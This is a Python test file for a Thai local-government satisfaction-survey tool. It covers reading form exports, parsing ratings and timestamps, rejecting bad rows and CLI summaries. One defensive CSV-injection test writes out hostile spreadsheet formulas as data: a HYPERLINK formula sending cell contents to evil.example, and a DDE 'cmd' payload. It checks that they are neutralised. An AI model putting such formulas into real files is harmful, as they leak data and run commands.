"""The satisfaction survey: reading exports, checking rows, the summary's numbers against plain statistics."""

from __future__ import annotations

import codecs
import csv
import json
import random
import statistics
from datetime import date, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kpi6.cli import app
from kpi6.models.errors import InputError
from kpi6.models.inputs import DisseminationEvent, DisseminationInput, LaoType, laos_disseminated
from kpi6.models.survey import (
    BandScheme,
    RatingError,
    SurveyColumns,
    TimestampReader,
    band_th,
    parse_rating,
    summarize,
)
from kpi6.tasks.adapters.spreadsheets import read_table
from kpi6.tasks.adapters.survey_files import read_events, read_survey, rejected_path
from kpi6.tasks.demo import (
    SURVEY_ITEMS,
    lao_pool,
    survey_answers,
    write_google_csv,
    write_msforms_xlsx,
)

ROUND = (date(2023, 10, 1), date(2024, 3, 31))
runner = CliRunner()


def _answers(seed: int = 1, respondents: int = 120) -> list[dict]:  # type: ignore[type-arg]
    rng = random.Random(seed)
    laos = lao_pool(rng, "เชียงใหม่", {LaoType.pao: 1, LaoType.municipality: 30, LaoType.sao: 60})
    return survey_answers(rng, respondents=respondents, laos=laos, start=date(2024, 2, 12), end=date(2024, 3, 7))


def _expected(rows: list[dict]) -> tuple[list[float], list[float], float, float]:  # type: ignore[type-arg]
    """What a spreadsheet gives: AVERAGE and STDEV.S per item column, and over the whole rating range."""
    columns = list(zip(*(r["ratings"] for r in rows), strict=True))
    everything = [v for r in rows for v in r["ratings"]]
    return (
        [statistics.mean(c) for c in columns],
        [statistics.stdev(c) for c in columns],
        statistics.mean(everything),
        statistics.stdev(everything),
    )


def test_google_forms_thai_labels_csv_with_bom(tmp_path):
    rows = _answers()
    path = write_google_csv(tmp_path / "survey.csv", rows)
    assert path.read_bytes().startswith(codecs.BOM_UTF8)
    result, checked, _ = read_survey(path, period=ROUND)
    assert checked.plan.timestamp == "ประทับเวลา" and checked.plan.lao_name == "ชื่อ อปท."
    assert checked.plan.ratings == [f"{i}. {q}" for i, q in enumerate(SURVEY_ITEMS, 1)]
    assert checked.plan.comments == ["ข้อเสนอแนะเพิ่มเติม"]
    assert result.respondents == 120 and not checked.problems
    means, sds, overall_mean, overall_sd = _expected(rows)
    s = summarize(result)
    assert [i.mean for i in s.items] == pytest.approx(means)
    assert [i.sd for i in s.items] == pytest.approx(sds)
    assert s.overall.mean == pytest.approx(overall_mean) and s.overall.sd == pytest.approx(overall_sd)
    first = [r["ratings"][0] for r in rows]
    assert s.items[0].percent_satisfied == pytest.approx(100 * sum(v >= 4 for v in first) / len(first))
    assert sum(s.by_type.values()) == 120 and set(s.by_type) <= {"อบจ.", "เทศบาล", "อบต."}
    assert s.comments == [r["comment"] for r in rows if r["comment"]]
    # Timestamps were written d/m/BE: the first one reads back as its CE moment.
    assert checked.responses[0].submitted == rows[0]["at"]


def test_microsoft_forms_numeric_xlsx(tmp_path):
    rows = _answers(seed=2, respondents=80)
    result, checked, _ = read_survey(write_msforms_xlsx(tmp_path / "ms.xlsx", rows), period=ROUND)
    assert checked.plan.timestamp == "Completion time"
    assert checked.plan.ratings == list(SURVEY_ITEMS)
    assert set(checked.plan.ignored) == {"ID", "Start time", "Email", "Name"}  # never printed as comments
    means, sds, overall_mean, _ = _expected(rows)
    s = summarize(result)
    assert [i.mean for i in s.items] == pytest.approx(means)
    assert [i.sd for i in s.items] == pytest.approx(sds)
    assert s.n == 80 and s.overall.n == 80 * len(SURVEY_ITEMS)


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [
        ("utf-8", ","),
        ("utf-8-sig", ";"),
        ("utf-16", "\t"),
        ("cp874", ","),
    ],
    ids=["utf8", "bom-semicolon", "utf16-tab", "thai-windows"],
)
def test_excel_csv_flavours(tmp_path, encoding, delimiter):
    path = tmp_path / "s.csv"
    with path.open("w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh, delimiter=delimiter)
        w.writerow(["Timestamp", "ความชัดเจน", "ประโยชน์"])
        w.writerow(["15/2/2024 10:00:00", "มากที่สุด", "4"])
        w.writerow(["16/2/2024 11:00:00", "มาก", "ปานกลาง"])
    result, _, _ = read_survey(path, period=ROUND)
    assert [i.counts for i in result.items] == [[1, 1, 0, 0, 0], [0, 1, 1, 0, 0]]


def _bad_file(tmp_path: Path) -> Path:
    path = tmp_path / "bad.csv"
    path.write_text(
        "Timestamp,ชื่อ อปท.,ตำแหน่ง,ข้อ 1,ข้อ 2\n"
        "15/2/2024 10:00:00,อบต.ก,ปลัด,5,4\n"  # row 2: fine
        "15/2/2024 10:00:00,อบต.ก,ปลัด,5,4\n"  # row 3: the same submission again
        "16/2/2024 10:00:00,อบต.ข,ปลัด,6,4\n"  # row 4: off the scale
        "17/2/2024 10:00:00,อบต.ค,ปลัด,ดีเยี่ยม,4\n"  # row 5: unknown label
        "18/2/2024 10:00:00,อบต.ง,ปลัด,,4\n"  # row 6: required item empty
        "18/2/2025 10:00:00,อบต.จ,ปลัด,3,4\n"  # row 7: outside the round
        "yesterday,อบต.ฉ,ปลัด,3,4\n"  # row 8: not a timestamp
        + "".join(f"{19 + k}/2/2024 10:00:00,อบต.{k},ปลัด,4,5\n" for k in range(8)),  # rows 9-16: fine
        encoding="utf-8",
    )
    return path


def test_each_kind_of_bad_row_is_named_by_row_and_column_and_the_file_is_refused(tmp_path):
    path = _bad_file(tmp_path)
    with pytest.raises(InputError) as caught:
        read_survey(path, period=ROUND)
    message = str(caught.value)
    assert "6 row(s) have problems; nothing was imported" in message
    for expected in (
        "row 3: a duplicate of row 2",
        "row 4, column 'ข้อ 1': 6 is off the 1–5 scale",
        "row 5, column 'ข้อ 1': 'ดีเยี่ยม' is not one of",
        "row 6, column 'ข้อ 1': no answer",
        "row 7, column 'Timestamp': submitted 2025-02-18, outside the round",
        "row 8, column 'Timestamp': 'yesterday' is not a date",
    ):
        assert expected in message
    assert not rejected_path(path).exists()


def test_skip_invalid_imports_the_rest_and_writes_the_rejected_rows(tmp_path):
    path = _bad_file(tmp_path)
    result, checked, table = read_survey(path, period=ROUND, skip_invalid=True)
    assert result.respondents == 9 and result.rejected == 6
    from kpi6.tasks.adapters.survey_files import write_rejected

    out = write_rejected(path, table, checked)
    rejected = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rejected[0][:3] == ["row", "problems", "Timestamp"]
    assert [r[0] for r in rejected[1:]] == ["3", "4", "5", "6", "7", "8"]
    assert rejected[2][1] == "row 4, column 'ข้อ 1': 6 is off the 1–5 scale" and rejected[2][2:] == [
        "16/2/2024 10:00:00",
        "อบต.ข",
        "ปลัด",
        "6",
        "4",
    ]


def test_a_file_that_is_not_a_survey(tmp_path):
    no_ts = tmp_path / "a.csv"
    no_ts.write_text("Name,Q1\nก,5\n", encoding="utf-8")
    with pytest.raises(InputError, match="no timestamp column"):
        read_survey(no_ts, period=ROUND)
    no_rating = tmp_path / "b.csv"
    no_rating.write_text("Timestamp,ชื่อ\n15/2/2024 10:00,ก\n", encoding="utf-8")
    with pytest.raises(InputError, match="no rating items"):
        read_survey(no_rating, period=ROUND)
    broken = tmp_path / "c.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(InputError, match="cannot be read as a spreadsheet"):
        read_survey(broken, period=ROUND)
    with pytest.raises(InputError, match="the configuration names rating column 'Q9'"):
        read_survey(_bad_file(tmp_path), period=ROUND, columns=SurveyColumns(ratings=["Q9"]))


def test_a_mapping_names_columns_and_optional_items(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text("When,Q1,Q2,Note\n15/2/2024 10:00,5,,ดี\n16/2/2024 10:00,4,3,\n", encoding="utf-8")
    cols = SurveyColumns(timestamp="When", ratings=["Q1", "Q2"], comments=["Note"], optional=["Q2"])
    result, _, _ = read_survey(path, period=ROUND, columns=cols)
    assert [i.counts for i in result.items] == [[1, 1, 0, 0, 0], [0, 0, 1, 0, 0]]
    assert result.comments == ["ดี"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("5", 5),
        (5, 5),
        (4.0, 4),
        ("๓", 3),
        ("มากที่สุด", 5),
        ("มาก", 4),
        ("ปานกลาง", 3),
        ("น้อย", 2),
        ("น้อยที่สุด", 1),
        ("5 - มากที่สุด", 5),
        ("มาก (4)", 4),
        ("พึงพอใจมาก", 4),
        ("  ", None),
        (None, None),
    ],
)
def test_ratings_as_numbers_or_thai_labels(value, expected):
    assert parse_rating(value) == expected


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("0", "off_scale"),
        (6, "off_scale"),
        ("4.5", "off_scale"),
        ("ดีมาก", "unknown_label"),
        ("4 - น้อย", "unknown_label"),
    ],
)
def test_ratings_off_the_scale(value, kind):
    with pytest.raises(RatingError) as caught:
        parse_rating(value)
    assert caught.value.kind == kind


@pytest.mark.parametrize(
    ("mean", "width_08", "width_05"),
    [
        (4.21, "มากที่สุด", "มาก"),
        (4.20, "มาก", "มาก"),
        (4.2049, "มาก", "มาก"),
        (4.205, "มากที่สุด", "มาก"),
        (4.50, "มากที่สุด", "มาก"),
        (4.51, "มากที่สุด", "มากที่สุด"),
        (3.41, "มาก", "ปานกลาง"),
        (3.40, "ปานกลาง", "ปานกลาง"),
        (2.61, "ปานกลาง", "ปานกลาง"),
        (2.60, "น้อย", "ปานกลาง"),
        (1.81, "น้อย", "น้อย"),
        (1.80, "น้อยที่สุด", "น้อย"),
        (1.50, "น้อยที่สุด", "น้อยที่สุด"),
        (1.0, "น้อยที่สุด", "น้อยที่สุด"),
        (5.0, "มากที่สุด", "มากที่สุด"),
    ],
)
def test_band_boundaries_of_both_conventions(mean, width_08, width_05):
    assert band_th(mean, BandScheme.width_0_8) == width_08
    assert band_th(mean, BandScheme.width_0_5) == width_05


def test_timestamp_day_month_order_is_decided_per_file():
    thai = TimestampReader.for_values(["3/2/2567, 10:00:00", "15/2/2567, 11:00:00"])
    assert thai.read("3/2/2567, 10:00:00") == datetime(2024, 2, 3, 10)
    us = TimestampReader.for_values(["2/3/2024 10:00:00 AM", "2/15/2024 1:05:00 PM"])
    assert us.read("2/15/2024 1:05:00 PM") == datetime(2024, 2, 15, 13, 5)
    assert TimestampReader().read("2024/02/15 10:23:45 AM GMT+7") == datetime(2024, 2, 15, 10, 23, 45)
    assert TimestampReader().read("15/2/67 10:00") == datetime(2024, 2, 15, 10)
    assert TimestampReader().read("31/2/2024 10:00") is None


def test_coverage_counts_each_lao_once():
    named = DisseminationEvent(date=date(2024, 2, 15), channel="meeting", laos=["อบต.ก", "อบต.ข", "อบต.ก"])
    again = DisseminationEvent(date=date(2024, 2, 16), channel="กลุ่มไลน์", laos=["อบต.ข", "อบต.ค"])
    counted = DisseminationEvent(date=date(2024, 2, 20), channel="training", laos_by_type={"อบต.": 10, "เทศบาล": 4})
    smaller = DisseminationEvent(date=date(2024, 2, 21), channel="website", laos_by_type={"อบต.": 6, "อบจ.": 1})
    assert named.laos_reached == 2 and counted.laos_reached == 14
    assert laos_disseminated([named, again]) == 3
    assert laos_disseminated([counted, smaller]) == 10 + 4 + 1
    d = DisseminationInput(events=[named, again, counted, smaller], laos_total=40)
    assert d.laos_reached == 40
    with pytest.raises(ValueError, match="unknown channel"):
        DisseminationEvent(date=date(2024, 2, 15), channel="carrier pigeon", laos_reached=3)
    with pytest.raises(ValueError, match="name the LAOs reached"):
        DisseminationEvent(date=date(2024, 2, 15), channel="meeting")


def test_events_from_csv_xlsx_and_yaml(tmp_path):
    from openpyxl import Workbook

    csv_path = tmp_path / "events.csv"
    csv_path.write_text(
        "วันที่,ช่องทาง,รายชื่อ อปท.,อบต.,เทศบาล,ผู้เข้าร่วม,รายละเอียด\n"
        "2024-02-15,การประชุมชี้แจง,อบต.ก; อบต.ข,,,40,ประชุมประจำเดือน\n"
        "20/2/2567,กลุ่มไลน์,,50,12,0,\n",
        encoding="utf-8-sig",
    )
    events = read_events(csv_path)
    assert [e.date for e in events] == [date(2024, 2, 15), date(2024, 2, 20)]
    assert events[0].laos == ["อบต.ก", "อบต.ข"] and events[1].laos_reached == 62
    book = Workbook()
    book.active.append(["date", "channel", "laos_reached", "participants"])
    book.active.append([datetime(2024, 2, 22), "online_meeting", 30, 55])
    book.save(tmp_path / "events.xlsx")
    assert read_events(tmp_path / "events.xlsx")[0].participants == 55
    (tmp_path / "events.yaml").write_text(
        "events:\n  - {date: 2024-02-23, channel: website, laos_reached: 9}\n", encoding="utf-8"
    )
    assert read_events(tmp_path / "events.yaml")[0].channel.value == "website"
    bad = tmp_path / "bad.csv"
    bad.write_text("date,channel,laos_reached\n2024-02-15,meeting,3\n2024-02-16,pigeon,3\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"bad.csv: row 3, channel: unknown channel 'pigeon'"):
        read_events(bad)


def test_read_table_keeps_thai_headers_and_skips_blank_lines(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("\nประทับเวลา,ข้อ 1\n15/2/2567 10:00,5\n\n", encoding="utf-8")
    table = read_table(path)
    assert table.headers == ["ประทับเวลา", "ข้อ 1"] and len(table.rows) == 1
    assert table.first_row == 3  # the spreadsheet's own row number, for error messages


def test_cli_survey_summary_json_and_errors(tmp_path):
    rows = _answers(seed=3, respondents=50)
    path = write_google_csv(tmp_path / "survey.csv", rows)
    result = runner.invoke(app, ["survey", "summary", str(path), "--round", "2567-1", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    means, sds, overall_mean, overall_sd = _expected(rows)
    assert data["n"] == 50
    assert data["overall"]["mean"] == pytest.approx(overall_mean) and data["overall"]["sd"] == pytest.approx(overall_sd)
    assert {"mean", "sd", "band_th", "percent_satisfied"} <= set(data["overall"])
    assert [i["question"] for i in data["items"]] == [f"{i}. {q}" for i, q in enumerate(SURVEY_ITEMS, 1)]
    assert [i["mean"] for i in data["items"]] == pytest.approx(means)
    assert [i["sd"] for i in data["items"]] == pytest.approx(sds)
    assert all(i["n"] == 50 for i in data["items"])
    table = runner.invoke(app, ["survey", "summary", str(path), "--bands", "0.5"])
    assert table.exit_code == 0 and "ภาพรวม · overall" in table.stdout and "width 0.5" in table.stdout
    bad = runner.invoke(app, ["survey", "summary", str(_bad_file(tmp_path)), "--round", "2567-1"])
    assert bad.exit_code == 2 and "row 4, column 'ข้อ 1'" in bad.stderr
    assert len(bad.stderr.strip().splitlines()) == 1
    assert runner.invoke(app, ["survey", "summary", str(path), "--bands", "0.7"]).exit_code == 2


@pytest.mark.parametrize(
    ("stamp", "bangkok", "accepted"),
    [
        ("2024-04-01T01:00+14:00", datetime(2024, 3, 31, 18, 0), True),  # the round's last day in Bangkok
        ("2024-03-31T20:00-05:00", datetime(2024, 4, 1, 8, 0), False),  # the day after the round in Bangkok
        ("2023-09-30T20:00-05:00", datetime(2023, 10, 1, 8, 0), True),  # the round's first day in Bangkok
        ("2023-10-01T01:00+14:00", datetime(2023, 9, 30, 18, 0), False),  # the day before the round in Bangkok
        ("2024-03-31T16:59:59Z", datetime(2024, 3, 31, 23, 59, 59), True),
        ("2024-03-31T17:00:00Z", datetime(2024, 4, 1, 0, 0), False),
        ("2024-03-31T23:30", datetime(2024, 3, 31, 23, 30), True),  # no offset: Bangkok time
        ("31/3/2024 20:00:00 GMT-5", datetime(2024, 4, 1, 8, 0), False),  # Google Forms' style with an offset
        ("30/9/2023 20:00:00 GMT-05:00", datetime(2023, 10, 1, 8, 0), True),
        ("31/3/2024 23:00:00 GMT+7", datetime(2024, 3, 31, 23, 0), True),
    ],
    ids=[
        "+14-last-day",
        "-05-day-after",
        "-05-first-day",
        "+14-day-before",
        "Z-last-second",
        "Z-day-after",
        "naive",
        "gmt-5-day-after",
        "gmt-05:00-first-day",
        "gmt+7",
    ],
)
def test_a_timestamp_with_a_utc_offset_is_compared_in_bangkok_time(tmp_path, stamp, bangkok, accepted):
    path = tmp_path / "tz.csv"
    path.write_text(f"Timestamp,ข้อ 1\n{stamp},5\n15/2/2024 10:00:00,4\n", encoding="utf-8")
    _, checked, _ = read_survey(path, period=ROUND, skip_invalid=True)
    assert TimestampReader().read(stamp) == bangkok
    assert (2 not in checked.rejected_rows) is accepted, checked.problems
    if accepted:
        assert checked.responses[0].submitted == bangkok
    else:
        assert checked.rejected_rows[2][0].kind == "outside_round"
        assert f"submitted {bangkok:%Y-%m-%d}, outside the round" in checked.rejected_rows[2][0].message


def test_the_rejected_rows_file_neutralises_formulas(tmp_path):
    """OWASP CSV injection: the rejected rows are the office's own cells, opened in Excel; none may run."""
    from kpi6.tasks.adapters.survey_files import write_rejected

    path = tmp_path / "evil.csv"
    cells = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["Timestamp", "ชื่อ อปท.", "ข้อ 1", "=ข้อเสนอแนะ"])
        w.writerows([f"{k + 1}/2/2024 10:00:00", f"อบต.{k}", "5", "ดี"] for k in range(8))
        for k, cell in enumerate(cells):
            w.writerow([f"{16 + k}/2/2024 10:00:00", cell, "9", cell])  # 9: off the scale, so the row is rejected
    _, checked, table = read_survey(path, period=ROUND, skip_invalid=True)
    rejected = list(csv.reader(write_rejected(path, table, checked).open(encoding="utf-8-sig", newline="")))
    assert rejected[0] == ["row", "problems", "Timestamp", "ชื่อ อปท.", "ข้อ 1", "'=ข้อเสนอแนะ"]
    # (the reader strips a cell's surrounding whitespace, so "\t=1" is read, and written, as "=1")
    assert [r[3] for r in rejected[1:]] == ["'" + c.strip() for c in cells] == [r[5] for r in rejected[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rejected for cell in r)


def test_a_timestamp_whose_bangkok_time_leaves_the_calendar_is_not_a_timestamp():
    assert TimestampReader().read("9999-12-31T23:00-05:00") is None
    assert TimestampReader().read("0001-01-01T01:00+14:00") is None
